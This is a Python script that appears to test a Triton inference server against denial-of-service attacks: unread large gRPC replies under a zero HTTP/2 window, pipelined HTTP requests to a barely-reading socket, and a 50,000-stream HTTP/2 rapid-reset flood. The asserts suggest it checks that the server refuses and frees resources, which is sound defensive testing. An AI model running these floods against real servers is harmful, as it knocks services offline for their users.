"""Clients ask for large replies with small requests and never read them; others open calls and reset them at once.

Unread replies are booked like requests, so there is an end to them, and a client that leaves gives its memory back.
"""

from __future__ import annotations

import socket
from contextlib import ExitStack, suppress

from tritonclient.grpc import service_pb2

from attacks import http2
from attacks.story import Victim, tell

ROWS = 10_000_000
"""Sums over an empty axis: a request of no bytes, a reply of 40 MB."""
MOST = 60
"""Replies that are asked for; some more than the bytes in flight allow."""


def attack(victim: Victim) -> None:
    """Asks until it is refused, then goes, and what it held is free for the next round."""
    for _ in range(2):
        with ExitStack() as stack:
            assert over_http2(victim, stack), "replies without end were held for nobody"
    over_http(victim)
    rapid_resets(victim)


def over_http2(victim: Victim, stack: ExitStack) -> bool:
    """Whether a call was refused while the replies before it were not read."""
    request = service_pb2.ModelInferRequest(model_name="sum", raw_input_contents=[b""])
    request.inputs.add(name="INPUT0", datatype="FP32", shape=[ROWS, 0])
    connection = stack.enter_context(http2.Connection(victim.grpc, {http2.INITIAL_WINDOW_SIZE: 0}))
    for number in range(MOST):
        connection.send(http2.call(2 * number + 1, request.SerializeToString()))
        answer = connection.receive_until(http2.HEADERS)
        assert answer is not None
        if answer[1] & http2.END_STREAM:
            return True
    return False


def over_http(victim: Victim) -> None:
    body = b'{"inputs":[{"name":"INPUT0","datatype":"FP32","shape":[%d,0],"data":[]}],' % ROWS
    body += b'"parameters":{"binary_data_output":true}}'
    head = b"POST /v2/models/sum/infer HTTP/1.1\r\nHost: x\r\nContent-Length: %d\r\n\r\n" % len(body)
    host, port = victim.http.rsplit(":", 1)
    with ExitStack() as stack:
        for _ in range(10):
            connection = stack.enter_context(socket.create_connection((host, int(port)), timeout=60))
            connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
            connection.sendall((head + body) * 20)
            assert connection.recv(1) == b"H"


def rapid_resets(victim: Victim) -> None:
    """Far more resets than a client that cancels has."""
    with http2.Connection(victim.grpc) as connection, suppress(OSError):
        for number in range(50_000):
            stream = 2 * number + 1
            connection.send(
                http2.frame(http2.HEADERS, http2.END_HEADERS, stream, http2.call_headers())
                + http2.frame(http2.RST_STREAM, 0, stream, b"\0\0\0\x08")
            )


if __name__ == "__main__":
    tell(attack)
